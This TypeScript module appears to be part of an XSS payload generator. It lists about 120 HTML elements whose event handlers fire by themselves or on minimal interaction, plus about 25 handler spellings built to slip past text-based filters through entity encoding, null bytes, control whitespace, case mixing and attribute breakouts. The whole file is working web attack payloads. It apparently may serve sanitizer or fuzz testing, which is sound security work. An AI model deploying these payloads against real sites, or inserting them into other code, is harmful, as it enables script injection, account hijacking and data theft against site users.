import type { Vector } from './vector.ts';
import { ofKind } from './vector.ts';

/** Elements with a handler that fires by itself or at the slightest touch; `%` is the handler's value. */
const firing = [
  '<img src=x: onerror=%>', '<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" onload=%>', '<img src=x: onloadstart=%>', '<img src=x: onloadend=%>',
  '<image src=x: onerror=%>', '<picture><source srcset="x:"><img onerror=% src=x:></picture>', '<img srcset="x: 1x" onerror=%>',
  '<svg onload=%></svg>', '<svg><image href=x: onerror=%></image></svg>', '<svg><g onload=%></g></svg>', '<svg><animate attributeName=x dur=1ms onbegin=%></svg>',
  '<svg><animate attributeName=x dur=1ms onend=%></svg>', '<svg><animate attributeName=x dur=1ms repeatCount=2 onrepeat=%></svg>', '<svg><set attributeName=x to=y onbegin=%></svg>',
  '<svg><discard onbegin=%></svg>', '<svg><animateTransform attributeName=transform onbegin=%></svg>', '<svg><animateMotion dur=1ms onbegin=%></svg>', '<svg><a onfocusin=% tabindex=0 autofocus>x</a></svg>',
  '<body onload=%>', '<body onpageshow=%>', '<body onfocus=%>', '<body onresize=%>', '<body onscroll=%>', '<body onhashchange=%>', '<body onpopstate=%>', '<body onmessage=%>', '<body onafterprint=%>',
  '<body onbeforeunload=%>', '<body onunhandledrejection=%>', '<body onerror=%>', '<body ononline=%>', '<body onstorage=%>', '<html onmousemove=%>', '<frameset onload=%>',
  '<input autofocus onfocus=%>', '<input autofocus onblur=%>', '<input type=image src=x: onerror=%>', '<input oninput=%>', '<input required oninvalid=%>', '<input type=search onsearch=%>', '<input value=x onselect=%>',
  '<select autofocus onfocus=%></select>', '<textarea autofocus onfocus=%></textarea>', '<keygen autofocus onfocus=%>', '<button autofocus onfocus=%>x</button>', '<form onsubmit=%><button>x</button></form>',
  '<form onreset=%><button type=reset>x</button></form>', '<form onformdata=%></form>', '<output onchange=% tabindex=0></output>', '<details open ontoggle=%><summary>x</summary></details>', '<dialog open onclose=%>x</dialog>',
  '<dialog open oncancel=%>x</dialog>', '<video onloadstart=% src=x:></video>', '<video onerror=% src=x:></video>', '<video><source onerror=% src=x:></video>', '<audio oncanplay=% src=x:></audio>',
  '<audio onstalled=% src=x:></audio>', '<video onencrypted=%></video>', '<video autoplay onplay=%></video>', '<video><track default oncuechange=% src=x:></video>', '<track onerror=% src=x:>',
  '<iframe onload=%></iframe>', '<iframe srcdoc="x" onload=%></iframe>', '<object data=x: onerror=%></object>', '<embed src=x: onload=%>', '<link rel=stylesheet href=x: onerror=%>',
  '<style onload=%></style>', '<style onerror=%>@import "x:"</style>', '<script src=x: onerror=%></script>', '<marquee onstart=%>x</marquee>', '<marquee loop=1 onfinish=%>x</marquee>',
  '<marquee behavior=alternate onbounce=%>x</marquee>', '<canvas oncontextlost=%></canvas>', '<slot onslotchange=%></slot>', '<p onclick=%>x</p>', '<p onmouseover=% style="position:fixed;inset:0">x</p>',
  '<p onpointerrawupdate=%>x</p>', '<p onpointerenter=%>x</p>', '<p onwheel=%>x</p>', '<p ontouchstart=%>x</p>', '<p oncopy=%>x</p>', '<p onpaste=% contenteditable>x</p>', '<p onbeforeinput=% contenteditable>x</p>',
  '<p ondragstart=% draggable=true>x</p>', '<p oncontextmenu=%>x</p>', '<p onselectstart=%>x</p>', '<p onanimationstart=% style="animation:a 1ms">x</p>', '<p onanimationend=% style="animation:a 1ms">x</p>',
  '<p onwebkitanimationstart=% style="animation:a 1ms">x</p>', '<p ontransitionrun=% style="transition:all 1s">x</p>', '<p ontransitionend=% style="transition:all 1ms">x</p>',
  '<p oncontentvisibilityautostatechange=% style="content-visibility:auto">x</p>', '<p onscrollend=%>x</p>', '<p onscrollsnapchange=%>x</p>', '<p onsecuritypolicyviolation=%>x</p>', '<p onbeforematch=% hidden=until-found>x</p>',
  '<p popover onbeforetoggle=%>x</p>', '<p ongotpointercapture=%>x</p>', '<p onfullscreenchange=%>x</p>', '<p oncommand=%>x</p>', '<p onauxclick=%>x</p>', '<math onfocus=% tabindex=0 autofocus></math>', '<math><mi onclick=%>x</mi></math>',
  '<x-y onfocus=% tabindex=0 autofocus>x</x-y>', '<a onfocus=% href="#" autofocus>x</a>', '<area onfocus=% href="#">', '<th onclick=%>x', '<br onclick=%>', '<hr onclick=%>', '<li onclick=%>x', '<del onmouseenter=%>x</del>',
];

const elements: Vector[] = firing.map((markup) => ({ kind: 'handler', name: markup, make: ({ js }) => markup.replace('%', `"${js}"`) }));

/** One handler, written in ways that a filter of text may miss. */
const writings = ofKind('handler writing', [
  ({ js }) => `<img src=x: onerror=${js}>`,
  ({ js }) => `<img src=x: onerror='${js}'>`,
  ({ js }) => `<img src=x: onerror=\`${js}\`>`,
  ({ js }) => `<img/src=x:/onerror=${js}>`,
  ({ js }) => `<img src=x:\nonerror\n=\n"${js}">`,
  ({ js }) => `<img src=x:\fonerror=${js}\f>`,
  ({ js }) => `<img src=x: \u000bonerror="${js}" onerror="${js}">`,
  ({ js }) => `<img src=x: OnErRoR="${js}">`,
  ({ js }) => `<img src=x: onerror="&#x6a;avascript:${js}">`,
  ({ js }) => `<img src=x: onerror="${[...js].map((character) => `&#${character.charCodeAt(0)};`).join('')}">`,
  ({ js }) => `<img src=x: onerror="${[...js].map((character) => `&#x${character.charCodeAt(0).toString(16).padStart(7, '0')}`).join('')}">`,
  ({ js }) => `<img src=x: on\u0000error="${js}">`,
  ({ js }) => `<img src=x: "onerror="${js}">`,
  ({ js }) => `<img src=x: ""onerror="${js}">`,
  ({ js }) => `<img """><img src=x: onerror="${js}">">`,
  ({ js }) => `<img src=x: =onerror= onerror="${js}">`,
  ({ js }) => `<img src=x: onerror="${js}" onerror="1">`,
  ({ js }) => `<img src=x: title="><img src=x: onerror=${js}>">`,
  ({ js }) => `<img src=x: alt='"><img src=x: onerror=${js}>'>`,
  ({ js }) => `<img src="x:" a='>' onerror="${js}">`,
  ({ js }) => `<img src=x: onerror="${js}"`,
  ({ js }) => `<img src=x: onerror="${js}//`,
  ({ js }) => `<p title="</p><img src=x: onerror=${js}>">x</p>`,
  ({ js }) => `</img src=x: onerror=${js}>`,
  ({ js }) => `<a\u00a0onclick="${js}" href="#" onfocus="${js}" autofocus>x</a>`,
]);

export const handlers: Vector[] = [...elements, ...writings];
